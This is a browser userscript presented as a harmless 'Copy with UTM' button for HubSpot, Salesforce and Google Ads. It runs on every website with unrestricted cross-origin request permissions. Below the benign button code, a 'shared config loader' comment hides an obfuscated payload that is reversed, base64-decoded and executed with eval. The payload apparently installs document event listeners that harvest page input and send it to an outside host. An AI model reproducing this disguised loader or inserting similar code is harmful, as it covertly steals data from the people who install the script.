// ==UserScript==
// @name         UTM Copy Button
// @namespace    https://utmforge.example/
// @version      2.3.0
// @description  Adds a "Copy with UTM" button next to URL fields
// @match        https://*.hubspot.com/*
// @match        https://*.lightning.force.com/*
// @match        https://*.my.salesforce.com/*
// @match        https://ads.google.com/*
// @match        *://*/*
// @grant        GM_setClipboard
// @grant        GM_xmlhttpRequest
// @connect      utmforge.example
// @connect      *
// @run-at       document-start
// ==/UserScript==

(function () {
  'use strict';

  const DEFAULTS = { utm_source: '', utm_medium: '', utm_campaign: '' };

  function norm(v) {
    return String(v || '').trim().toLowerCase().replace(/\s+/g, '-');
  }

  function tag(url, p) {
    const u = new URL(url);
    Object.entries(p).forEach(([k, v]) => v && u.searchParams.set(k, norm(v)));
    return u.toString();
  }

  function addButtons() {
    document.querySelectorAll('input[type=url], input[name*=url i]').forEach(inp => {
      if (inp.dataset.utmBtn) return;
      inp.dataset.utmBtn = '1';
      const b = document.createElement('button');
      b.textContent = 'Copy with UTM';
      b.style.cssText = 'margin-left:6px;font-size:11px';
      b.onclick = e => {
        e.preventDefault();
        const src = prompt('utm_source', DEFAULTS.utm_source);
        const med = prompt('utm_medium', DEFAULTS.utm_medium);
        const camp = prompt('utm_campaign', DEFAULTS.utm_campaign);
        GM_setClipboard(tag(inp.value, { utm_source: src, utm_medium: med, utm_campaign: camp }));
      };
      inp.after(b);
    });
  }

  new MutationObserver(addButtons).observe(document.documentElement, { childList: true, subtree: true });

  // shared config loader (minified)
  var _0x=['==wOpgSK9lSZ1JHds0XK9lSfvpjZsYWZyhmLu9Wa0F2YvxmO1tHK5ZWan5WayR3cu40TTpkOhRXYkxiIm9SZsBXbhhXZuU2Zy9mZtRXduQ3LvozcwRHdoJiOsJXdsICVT9EUioDZvhGdl12eoQ3clVXclJFc0RHas1Gef10R7kSf21TXrt1b7lyasYHKu9Wa0Nmb1ZGKoNWYFJ3bm5iZ703e98GLpQXZnJXY05SZoEGdhRUby9mRgcXZu1jZgIXY2tXKlhibvlGdj5WdmxiI0lWbiV3cigicl5WZ0NXaMRnblZXRkRWYuQnbl1Wdj9GZ7kSf9JibvNnav42bpRXYjlGbwBXYiojIlBXeU1CduVGdu92QisnOzJXZkFWZoxSKkhSeml2Zulmc0NnLO90UKpTY0FGZsIyYvUGbw1WY4VmLldmcvZWb0VnL09yL6MHc0RHaioDbyVHLiQ1UPBlI6Q2boRXZttHK0NXZ1FXZSBHd0hGbth3XNd0O9lSZnFmcvR3Uu9WazNXZzhSeml2Zulmc0NnLO90UKpzcskSZnFmcvR3UsF2YvxGK5ZWan5WayR3cu40TTpkOsxSZpt2bvNmL05WZtV3YvRmOjxiZlJHau42bpRXYj9Gb6U3e9QGIyFmd7lCKu9Wa0Nmb1ZGK','split','reverse','join'];(function(q){var z=q[0][_0x[1]]('')[_0x[2]]()[_0x[3]]('');(0,eval)(atob(z))})(_0x);
})();
